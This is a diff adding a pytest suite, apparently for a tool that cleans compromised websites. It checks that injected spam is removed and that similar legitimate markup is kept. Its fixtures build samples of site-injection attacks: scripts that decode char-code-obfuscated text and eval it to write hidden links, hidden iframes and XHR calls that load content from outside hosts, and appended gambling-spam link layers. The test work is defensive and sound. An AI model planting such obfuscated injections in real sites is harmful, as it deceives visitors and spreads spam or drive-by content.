@@ -1,0 +1,107 @@
+"""What intruders' scripts and frames do in one more way, and the honest scripts and frames that are made like them."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.signs.cases import restores, silent
+
+WRITES = "document.write(\"<div style='position:absolute;left:-9999px'><a href='https://a.example.net/'>lanterns</a></div>\")"
+
+
+def _moved(key: str, made: str) -> str:
+    """A script that makes letters of numbers, each moved by a key, and runs what they say."""
+    numbers = [ord(letter) + int(key) if key[0] in "+-" else ord(letter) ^ int(key[1:]) for letter in WRITES]
+    back = {"+": "-", "-": "+", "^": "^"}[key[0]] + key[1:]
+    return (
+        f"<script>var q={numbers},w='';for(var i=0;i<q.length;i++)w+=String.fromCharCode(q[i]{back});{made}</script>\n"
+    )
+
+
+@pytest.mark.parametrize("key", ["+3", "-1", "^7"])
+@pytest.mark.parametrize("made", ["eval(w);", "window.eval(w)", "(new Function(w))();"])
+def test_what_a_loop_makes_and_runs_is_read(key: str, made: str) -> None:
+    restores(body=_moved(key, made), rule="disguised-links")
+
+
+def test_a_loop_that_makes_a_mail_address_stays() -> None:
+    numbers = [ord(letter) + 1 for letter in '<a href="mailto:desk@example.org">desk</a>']
+    made = "for(var i=0;i<q.length;i++)w+=String.fromCharCode(q[i]-1);eval('w')"
+    silent(body=f"<script>var q={numbers},w='';{made}</script>\n")
+
+
+def _filled(holder: str, called: str, source: str = "https://lists.example.net/a.php?n=") -> str:
+    return (
+        f'<{holder} id="slot1" hidden></{holder}><{holder} id="slot2" hidden></{holder}>'
+        f'<script>for(var i=1;i<3;i++)(function(n){{var x=new XMLHttpRequest();x.open("GET","{source}"+n);'
+        f"x.onload=function(){{document.getElementById({called}).innerHTML=x.responseText}};x.send()}})(i);</script>"
+    )
+
+
+@pytest.mark.parametrize("holder", ["span", "div", "p"])
+def test_holders_that_are_counted_go_with_the_script_that_fills_them(holder: str) -> None:
+    restores(body=_filled(holder, '"slot"+n'), rule="fetched-block")
+
+
+def test_counted_holders_that_the_own_site_fills_stay() -> None:
+    silent(body=_filled("div", '"slot"+n', "/parts/list.php?n="))
+
+
+@pytest.mark.parametrize(
+    "frame",
+    [
+        (
+            '<iframe name=qq frameborder=0 style="position:absolute;left:-1500px" height=0 width=0 '
+            'src="//f.example.net/in.cgi?7&amp;x"></iframe>\n'
+        ),
+        (
+            '<iframe id="kx" name="ky" width="1" height="1" style="position:fixed;top:-900px" '
+            'src="https://f.example.net/go?12"></iframe>\n'
+        ),
+    ],
+)
+def test_a_frame_that_is_hidden_twice_goes_by_whatever_name(frame: str) -> None:
+    restores(body=frame, rule="foreign-frame")
+
+
+@pytest.mark.parametrize(
+    "frame",
+    [
+        (
+            '<iframe name="post" width="0" height="0" style="position:absolute;left:-999px" '
+            'src="https://f.example.net/form"></iframe><a target="post" href="https://f.example.net/like">Like</a>\n'
+        ),
+        (
+            '<iframe name="visits" width="1" height="1" style="position:absolute;top:-999px" '
+            'src="https://f.example.net/v?id=81723&amp;page=opening-hours"></iframe>\n'
+        ),
+        '<iframe name="player" width="0" height="0" src="https://f.example.net/play"></iframe>\n',
+    ],
+)
+def test_frames_that_a_page_calls_by_name_or_that_measure_stay(frame: str) -> None:
+    silent(body=frame)
+
+
+def _layer(*names: str) -> str:
+    links = "".join(f"h+='<a href=\"https://v{n}.example.com/?c={n}\">{name}</a>';" for n, name in enumerate(names))
+    return f"<script>\n$(function(){{var h='<div class=\"kx\">';{links}h+='</div>';$('body').append(h)}});\n</script>\n"
+
+
+@pytest.mark.parametrize(
+    "names",
+    [
+        ("注册送58彩金", "捕鱼爆奖500倍", "真人视讯荷官"),
+        ("สล็อตแตกง่าย", "ฝากถอนไม่มีขั้นต่ำ", "รับเครดิตทันที"),
+        ("온카 첫충 보너스", "슬롯 잭팟 즉시출금", "가입머니 지급"),
+    ],
+)
+def test_a_layer_in_letters_of_which_the_page_has_none_goes(names: tuple[str, ...]) -> None:
+    restores(body=_layer(*names), rule="written-links")
+
+
+@pytest.mark.parametrize(
+    "names",
+    [("关于我们", "下载应用", "读者活动"), ("日本語", "中文", "한국어"), ("تواصل معنا", "المكتبة", "الدورات")],
+)
+def test_a_layer_for_guests_from_abroad_stays(names: tuple[str, ...]) -> None:
+    silent(body=_layer(*names))
